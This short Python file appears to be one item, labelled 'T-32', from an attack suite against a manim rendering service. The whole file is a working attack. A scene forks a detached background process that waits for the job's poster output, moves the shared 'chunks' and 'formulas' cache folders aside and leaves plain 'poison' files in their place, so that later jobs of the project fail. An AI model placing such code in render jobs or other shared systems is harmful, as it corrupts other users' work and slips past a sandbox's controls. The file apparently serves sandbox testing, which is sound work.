# attack: T-32
# what: Leave files where the next job of the project wants folders.
# layer: chunks are copies
# static: rejected
# class: RENDERED
import os

from manim import *


class Attack(Scene):
    def construct(self):
        if os.fork() == 0:
            os.setsid()
            while not os.path.exists("/job/out/poster.jpg"):
                pass
            for name in ("chunks", "formulas"):
                os.rename("/job/cache/" + name, "/job/tmp/" + name)
                with open("/job/cache/" + name, "w") as file:
                    file.write("poison")
            os._exit(0)
        self.wait(0.1)
